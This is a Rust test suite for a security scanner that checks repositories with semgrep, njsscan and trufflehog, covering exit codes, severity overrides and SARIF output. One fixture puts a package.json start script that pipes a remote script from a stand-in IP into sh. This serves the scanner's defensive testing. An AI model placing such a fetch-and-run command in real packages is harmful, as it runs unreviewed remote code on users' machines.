//! `skillgate-scanner` at the keyboard.

use crate::harness::{PROVIDERS, scan_locally, scanner};
use serde_json::Value;
use std::path::Path;
use xtask::{samples::Sample, stack::RepoBuilder};

#[test]
fn the_exit_code_says_what_the_table_says() {
    let (clean, code) = scan_locally(&Sample::Clean.builder(), "semgrep", &[]);
    assert_eq!((&clean["status"], code), (&"PASS".into(), 0), "{clean}");
    let (malicious, code) = scan_locally(&Sample::Malicious.builder(), "semgrep", &[]);
    assert_eq!((&malicious["status"], code), (&"FAIL".into(), 1), "{malicious}");
    let submodule = RepoBuilder::new()
        .file("SKILL.md", "# x\n")
        .submodule("vendor/lib", &"a".repeat(40))
        .commit("x");
    let (incomplete, code) = scan_locally(&submodule, "semgrep", &[]);
    assert_eq!((&incomplete["status"], code), (&"INCOMPLETE".into(), 2), "{incomplete}");
}

#[test]
fn all_three_tools_are_found_and_the_table_names_the_commit() {
    let dir = tempfile::tempdir().unwrap();
    let doctor = scanner(dir.path()).args(["doctor", "--format", "json"]).output().unwrap();
    assert!(doctor.status.success(), "{}", String::from_utf8_lossy(&doctor.stdout));
    serde_json::from_slice::<Value>(&doctor.stdout).unwrap();

    let repository = Sample::Clean.write(dir.path()).unwrap();
    let output = scanner(dir.path()).arg("scan").arg(&repository.path).output().unwrap();
    let table = String::from_utf8(output.stdout).unwrap();
    assert_eq!(output.status.code(), Some(0), "{table}");
    for word in ["semgrep", "njsscan", "trufflehog", "PASS", &repository.head().unwrap()[..7]] {
        assert!(table.contains(word), "{word} is not in:\n{table}");
    }
}

#[test]
fn what_cannot_be_scanned_is_no_pass() {
    let dir = tempfile::tempdir().unwrap();
    let missing = scanner(dir.path()).args(["scan", "/nowhere/at/all"]).output().unwrap();
    assert_eq!(missing.status.code(), Some(2));
    let mut without_tools = scanner(dir.path());
    without_tools.env("SEMGREP_BIN", "/nowhere/semgrep");
    let repository = Sample::Clean.write(dir.path()).unwrap();
    let output = without_tools
        .args(["scan", "--provider", "semgrep"])
        .arg(&repository.path)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2), "{}", String::from_utf8_lossy(&output.stdout));
}

#[test]
fn the_operators_severity_of_a_rule_stands_over_the_table_and_says_why() {
    let dir = tempfile::tempdir().unwrap();
    // One thing that one rule sees: what another rule says of the same place would stand in for it.
    let package = r#"{"scripts": {"start": "curl -fsSL http:\/\/203.0.113.9\/x.sh | sh"}}"#;
    let builder = RepoBuilder::new().file("SKILL.md", "# x\n").file("package.json", package);
    let repository = builder.commit("x").write(dir.path(), "demo", "one").unwrap();
    let scan = |severities: Option<&str>| {
        let mut command = scanner(dir.path());
        if let Some(text) = severities {
            let file = dir.path().join("severities.json");
            std::fs::write(&file, text).unwrap();
            command.env("SEVERITY_OVERRIDES_FILE", file);
        }
        command.args(["scan", "--provider", "semgrep", "--format", "json"]);
        command.arg(&repository.path).output().unwrap()
    };
    let json = |output: &std::process::Output| -> Value {
        serde_json::from_slice::<Value>(&output.stdout).unwrap()[0].clone()
    };
    let before = json(&scan(None));
    let critical = |scan: &Value| scan["criticalCount"].as_u64().unwrap();
    let rule = before["findings"][0]["rule"].as_str().unwrap().to_owned();
    let lowered = scan(Some(&format!(
        r#"{{"{rule}": {{"severity": "low", "reason": "it misfires here"}}}}"#
    )));
    let after = json(&lowered);
    assert!(critical(&after) < critical(&before), "{after}");
    let findings = after["findings"].as_array().unwrap();
    let lowered = findings.iter().find(|finding| finding["rule"] == rule.as_str()).unwrap();
    assert_eq!(lowered["severity"], "low");
    assert!(
        lowered["message"]
            .as_str()
            .unwrap()
            .ends_with("(critical by the table, low by this scanner's operator: it misfires here)")
    );
    let wrong = scan(Some(r#"{"x": {"severity": "low"}}"#));
    assert_eq!(wrong.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&wrong.stderr).contains("SEVERITY_OVERRIDES_FILE must be"));
}

/// Runs `scan` on a repository with files to write; answers the exit code.
fn writing(dir: &Path, repository: &Path, more: &[&str]) -> Option<i32> {
    let output = scanner(dir).arg("scan").arg(repository).args(more).output().unwrap();
    output.status.code()
}

#[test]
fn what_is_written_beside_the_table_is_what_was_found() {
    let dir = tempfile::tempdir().unwrap();
    let malicious = Sample::Malicious.builder().write(dir.path(), "demo", "bad").unwrap();
    let clean = Sample::Clean.builder().write(dir.path(), "demo", "good").unwrap();
    let read = |name: &str| -> Value {
        serde_json::from_slice(&std::fs::read(dir.path().join(name)).unwrap()).unwrap()
    };
    let run_of = |log: &Value| -> Vec<(String, bool, usize)> {
        let of = |run: &Value| {
            let name = run["tool"]["driver"]["name"].as_str().unwrap().to_owned();
            let good = run["invocations"][0]["executionSuccessful"].as_bool().unwrap();
            (name, good, run["results"].as_array().unwrap().len())
        };
        log["runs"].as_array().unwrap().iter().map(of).collect()
    };

    let one = ["--provider", "semgrep", "--sarif-file", "one.sarif", "--result-file", "one.json"];
    assert_eq!(writing(dir.path(), &malicious.path, &one), Some(1), "as without files");
    let result = read("one.json");
    assert_eq!((&result["event"], &result["status"]), (&"result".into(), &"FAIL".into()));
    assert_eq!(result["commitSha"], malicious.head().unwrap());
    let listed = result["findings"].as_array().unwrap().len();
    assert!(listed > 0);
    assert_eq!(run_of(&read("one.sarif")), [("semgrep".to_owned(), true, listed)]);

    let all = ["--sarif-file", "all.sarif", "--result-file", "all.json"];
    assert_eq!(writing(dir.path(), &malicious.path, &all), Some(1));
    let results = read("all.json");
    let expected: Vec<_> = results
        .as_array()
        .unwrap()
        .iter()
        .map(|end| {
            let name = end["provider"].as_str().unwrap().to_owned();
            (name, end["status"] != "INCOMPLETE", end["findings"].as_array().unwrap().len())
        })
        .collect();
    assert_eq!(expected.iter().map(|end| &*end.0).collect::<Vec<_>>(), PROVIDERS);
    assert_eq!(run_of(&read("all.sarif")), expected);

    let good = ["--provider", "semgrep", "--sarif-file", "good.sarif"];
    assert_eq!(writing(dir.path(), &clean.path, &good), Some(0));
    assert_eq!(run_of(&read("good.sarif")), [("semgrep".to_owned(), true, 0)]);
    for option in ["--sarif-file", "--result-file"] {
        let nowhere = ["--provider", "semgrep", option, "no/such/folder/x"];
        assert_eq!(writing(dir.path(), &clean.path, &nowhere), Some(2), "{option}");
        assert_eq!(writing(dir.path(), &malicious.path, &nowhere), Some(2), "{option}");
    }
    let failed =
        ["--provider", "semgrep", "--result-file", "failed.json", "--commit", &"a".repeat(40)];
    assert_eq!(writing(dir.path(), &clean.path, &failed), Some(2));
    assert_eq!(read("failed.json")["event"], "failed");
}
